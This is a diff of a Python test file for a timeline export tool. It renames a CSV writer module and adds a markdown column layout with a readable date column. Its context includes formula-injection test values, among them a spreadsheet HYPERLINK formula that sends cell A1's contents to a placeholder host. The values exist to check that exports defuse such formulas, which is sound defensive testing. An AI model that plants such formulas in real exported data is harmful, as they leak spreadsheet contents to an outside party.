@@ -16,8 +16,9 @@ from pathlib import Path
 
 import pytest
 
-from kaztimeline.render import machine
+from kaztimeline.render import delimited
 from kaztimeline.schema.model import EVENT_COLUMNS, LIST_COLUMNS, OPTIONAL_EVENT_COLUMNS, split_list
+from kaztimeline.values.dates import record_date
 
 BAD = Path(__file__).parent / "fixtures" / "bad"
 _spec = importlib.util.spec_from_file_location("bad_cases", BAD / "cases.py")
@@ -31,6 +32,8 @@ MACHINE_FORMATS = FORMATS[1:]
 ANSI = "\x1b["
 # The corpus's files leave out the optional date_basis column, and output keeps a file's own columns.
 FILE_COLUMNS = tuple(c for c in EVENT_COLUMNS if c not in OPTIONAL_EVENT_COLUMNS)
+# Markdown is a table people read: the date as read (`when`) where the raw date columns were.
+MD_COLUMNS = tuple("when" if c == "date" else c for c in FILE_COLUMNS if c not in ("end_date", "date_qualifier"))
 
 
 @pytest.fixture(scope="session")
@@ -109,12 +112,14 @@ def assert_rows(fmt: str, stdout: str, expected: tuple[dict[str, str], ...]) -> 
         assert lines[-1] == "" and lines[0] == "\t".join(FILE_COLUMNS)
         assert [line.split("\t") for line in lines[1:-1]] == [[one_line(v) for v in row] for row in cells]
     elif fmt == "md":
+        columns = list(MD_COLUMNS)
+        cells = [[record_date(r) if c == "when" else r.get(c, "") for c in columns] for r in expected]
         lines = stdout.split("\n")
         assert lines[-1] == ""
         lines = lines[:-1]
         assert len(lines) == 2 + len(expected), "header, separator and one line per event"
-        assert md_cells(lines[0]) == list(FILE_COLUMNS)
-        assert lines[1].count("|") == len(FILE_COLUMNS) + 1 and set(lines[1]) <= set("|-: ")
+        assert md_cells(lines[0]) == columns
+        assert lines[1].count("|") == len(columns) + 1 and set(lines[1]) <= set("|-: ")
         for line, row in zip(lines[2:], cells):
             assert md_cells(line) == [one_line(v).strip(" ") for v in row]
 
@@ -198,7 +203,7 @@ FORMULA_CELLS = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "-1", "+
 
 def test_excel_safe_defuses_every_formula_trigger():
     out = io.StringIO()
-    machine.write_csv(["a"], [[v] for v in FORMULA_CELLS + ("plain", "7-1")], out, excel=True)
+    delimited.write_csv(["a"], [[v] for v in FORMULA_CELLS + ("plain", "7-1")], out, excel=True)
     values = [r[0] for r in csv.reader(io.StringIO(out.getvalue()))][1:]
     assert values == ["'" + v for v in FORMULA_CELLS] + ["plain", "7-1"]
 
@@ -255,7 +260,7 @@ def test_export(invoke, generated, tmp_path, case, fmt):
         assert "<b>bold</b>" not in text and "&lt;b&gt;bold&lt;/b&gt;" in text
     if fmt == "md" and case.html_hostile:
         body = [line for line in text.splitlines() if line.startswith("| ")]
-        assert {len(md_cells(line)) for line in body} == {len(FILE_COLUMNS)}
+        assert {len(md_cells(line)) for line in body} == {len(MD_COLUMNS)}
 
 
 @pytest.mark.parametrize("fmt", ["csv", "tsv"])
